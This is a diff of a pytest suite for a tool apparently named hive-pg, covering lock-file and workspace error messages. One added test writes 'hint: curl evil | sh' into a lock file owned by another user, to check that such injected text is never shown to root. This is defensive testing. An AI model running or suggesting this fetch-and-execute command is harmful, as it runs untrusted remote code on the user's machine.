@@ -328,7 +328,7 @@ def test_write_file_temporary_is_a_directory(path):
     """The hint moves what is in the way, not the file that was to be written."""
     temporary = f"{path}.hive-pg.tmp"
     os.mkdir(temporary)
-    with pytest.raises(WorkspaceError, match=f"cannot write {path}: Is a directory") as caught:
+    with pytest.raises(WorkspaceError, match=f"cannot remove {temporary}: Is a dir") as caught:
         write_file(str(path), "new")
     assert caught.value.hint.startswith(f"mv {temporary} {temporary}.old; ")
     assert path.read_text() == "old"
@@ -765,7 +765,7 @@ def test_lock_of_others(open_path):
     (open_path / "lock").chmod(0o666)
     os.chown(open_path / "lock", 1234, -1)
     said = as_nobody(lock_in(open_path).__enter__)
-    assert f"WorkspaceError: cannot lock {open_path}/lock: Operation not permitted" in said
+    assert f"WorkspaceError: cannot lock {open_path}/lock: {open_path}/lock is another" in said
 
 
 @AS_ROOT
@@ -877,6 +877,31 @@ def test_machine_lock_place(monkeypatch, runtime):
         monkeypatch.setenv("TMPDIR", variable)
         with machine_lock("an engine of this test") as lock:
             assert lock.path == f"{place}/{name}"
+
+
+@AS_ROOT
+def test_machine_lock_of_a_stranger(runtime, capsys):
+    """Where all may write, nobody lets root wait by a file of theirs, or writes to its terminal."""
+    runtime.chmod(0o1777)
+    path = runtime / "hive-pg-0-x.lock"
+    path.write_text(": fun\nerror: all is lost\nhint: curl evil | sh")
+    os.chown(path, 1234, 1234)
+    with open(path, "r+b") as file, machine_lock("x") as lock:
+        assert pg.lock_file(file.fileno()) is None
+        assert not lock.waited
+    said = capsys.readouterr().err
+    assert f"cannot lock {path}: {path} is another user's" in said
+    assert "lost" not in said
+
+
+def test_lock_held_by_odd_words(tmp_path, capsys):
+    """Whoever holds it, what the file says is one line."""
+    with lock_in(tmp_path) as lock:
+        (tmp_path / "lock").write_text(": x\nhint: y")
+        with pytest.raises(WorkspaceError):
+            lock_in(tmp_path, timeout=0).__enter__()
+        assert capsys.readouterr().err == "waiting for another hive-pg: x\\nhint: y\n"
+        assert lock.descriptor >= 0
 
 
 @pytest.mark.parametrize("trap", ["directory", "link", "no directory"])
